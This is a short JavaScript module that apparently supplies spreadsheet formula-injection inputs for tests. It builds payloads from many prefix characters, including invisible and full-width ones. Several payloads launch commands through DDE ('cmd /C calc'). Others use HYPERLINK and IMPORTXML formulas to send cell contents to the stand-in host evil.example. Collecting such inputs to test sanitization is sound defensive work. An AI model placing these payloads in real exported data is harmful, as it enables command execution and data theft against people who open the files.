/** What somebody could give for a name to have a spreadsheet run it. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '\u2212',
  '|',
  '%',
]

const calls = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")']

export const formulas = [
  ...starts.flatMap((start) => calls.map((call) => start + call)),
  '=DDE("cmd";"/C calc";"__DdeLink_60_870840465")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
  '";=1+1;"',
  '"\r\n=1+1',
  ',=1+1',
  '</t></is></c><c><f>1+1</f></c>',
  '_x003D_1+1',
  '\u0000=1+1',
  '\u202e=1+1',
]
